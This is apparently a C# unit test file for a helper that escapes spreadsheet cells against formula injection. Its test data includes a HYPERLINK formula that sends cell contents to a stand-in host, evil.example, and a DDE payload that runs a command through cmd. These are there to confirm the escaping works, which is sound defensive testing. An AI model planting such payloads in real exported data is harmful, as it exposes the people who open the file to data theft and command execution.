using ParIndex.Core.Tabular;

namespace ParIndex.Core.Tests.Tabular;

public sealed class SpreadsheetSafeTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")")]
    [InlineData("=1+1")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("＝1+1")]
    public void Cells_a_spreadsheet_would_evaluate_get_a_quote_prefix(string value) =>
        Assert.Equal("'" + value, SpreadsheetSafe.Cell(value));

    [Theory]
    [InlineData("Sở Nội vụ")]
    [InlineData("UBND phường Hoàn Kiếm")]
    [InlineData("4.5")]
    [InlineData("a=b")]
    [InlineData("")]
    [InlineData("'already quoted")]
    public void Harmless_cells_are_unchanged(string value) => Assert.Equal(value, SpreadsheetSafe.Cell(value));

    [Fact]
    public void Null_stays_null() => Assert.Null(SpreadsheetSafe.Cell(null));
}
